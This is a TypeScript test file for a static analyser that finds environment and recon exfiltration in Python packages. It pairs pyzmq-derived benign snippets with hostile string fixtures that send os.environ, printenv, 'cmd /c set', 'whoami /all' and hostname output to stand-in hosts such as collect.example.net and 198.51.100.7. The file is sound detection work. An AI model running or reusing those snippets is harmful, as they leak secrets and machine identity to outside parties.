/**
 * A child process in Python read as data flow (analysis/python/flow.ts): the environment handed to a child
 * (`env=`) stays with it, and what a command prints is what it reads (`printenv` prints the environment,
 * `whoami` the user). Found on honest Debian Python (pyzmq's ssh tunnel, docs/package-analysis.md "Honest Python
 * from Debian"); each with variants and the attack it must still catch. Parsed as text; nothing here is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analysePython } from '../../shared/packages/analysis/python/flow.js';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';

const ids = (src: string): string[] => {
  const f = analysePython(src);
  assert.ok(f, 'parsed within its budget');
  return f!.findings.map((x) => x.ruleId);
};
const sendsEnv = (src: string) => ids(src).some((r) => r === 'env_exfil_flow' || r === 'recon_exfil_flow');

test.before(async () => {
  await loadParsers();
});

test("the environment handed to a child process does not reach what the call returns (pyzmq's tunnel)", () => {
  // the real shape: a tunnel spawned with a copy of the environment, its local address then connected to
  const zmq = `import os, pexpect
def open_tunnel(addr, server):
    env = os.environ.copy()
    env.pop('SSH_ASKPASS', None)
    tunnel = pexpect.spawn('ssh -L 1:%s %s' % (addr, server), env=env)
    return 'tcp://127.0.0.1:1', tunnel
def tunnel_connection(socket, addr, server):
    new_url, tunnel = open_tunnel(addr, server)
    socket.connect(new_url)
    return tunnel
`;
  assert.not.ok(sendsEnv(zmq), ids(zmq).join(' '));
  // variants: subprocess.Popen's handle, asyncio's process, a dict built from the environment
  assert.not.ok(sendsEnv("import os, subprocess, requests\nenv = dict(os.environ)\nenv['LANG'] = 'C'\np = subprocess.Popen(['worker'], env=env)\nrequests.post('https://status.example.org/started', json={'pid': p.pid})\n"));
  assert.not.ok(sendsEnv("import os, asyncio, httpx\nasync def main():\n    proc = await asyncio.create_subprocess_exec('job', env={**os.environ, 'X': '1'})\n    await httpx.AsyncClient().post('https://status.example.org/x', json={'rc': proc.returncode})\n"));
});

test('the environment still counts where it is sent, or handed to a function of the file under the name env', () => {
  assert.ok(sendsEnv("import os, requests\nrequests.post('https://collect.example.net/e', json=dict(os.environ))\n"));
  // not a child process: a function of the file takes it and its result is sent
  assert.ok(sendsEnv("import os, json, requests\ndef build(env):\n    return json.dumps(env)\npayload = build(env=os.environ.copy())\nrequests.post('https://collect.example.net/e', data=payload)\n"));
  // the child prints the environment it was given, and its output is sent
  assert.ok(sendsEnv("import os, subprocess, requests\nout = subprocess.check_output(['printenv'], env=os.environ.copy())\nrequests.post('https://collect.example.net/e', data=out)\n"));
});

test("a command's output carries what it prints: the environment, the user, the machine", () => {
  assert.ok(ids("import subprocess, requests\nout = subprocess.check_output(['printenv'])\nrequests.post('https://collect.example.net/e', data=out)\n").includes('env_exfil_flow'));
  assert.ok(ids("import subprocess, requests\nr = subprocess.run('cmd /c set', shell=True, capture_output=True, text=True)\nrequests.post('https://c.example.net', data=r.stdout)\n").includes('env_exfil_flow'));
  assert.ok(ids("import subprocess, urllib.request\nu = subprocess.getoutput('whoami /all')\nurllib.request.urlopen('http://198.51.100.7/r?u=' + u)\n").includes('recon_exfil_flow'));
  assert.ok(ids("import os\nimport subprocess as sp\nimport requests\nh = sp.check_output(['/usr/bin/hostname', '-f']).decode()\nrequests.get('https://c.example.net/p', params={'h': h})\n").includes('recon_exfil_flow'));
});

test('honest twins: one variable printed, a tool asked its version, env used to run a command', () => {
  assert.not.ok(sendsEnv("import subprocess, requests\nh = subprocess.check_output(['printenv', 'HOME'])\nrequests.post('https://api.example.org/home', data=h)\n"));
  assert.not.ok(sendsEnv("import subprocess, requests\nv = subprocess.check_output(['git', '--version'])\nrequests.post('https://api.example.org/v', data=v)\n"));
  assert.not.ok(sendsEnv("import subprocess, requests\nout = subprocess.check_output(['env', 'LC_ALL=C', 'make', 'report'])\nrequests.post('https://ci.example.org/report', data=out)\n"));
});

test.run();
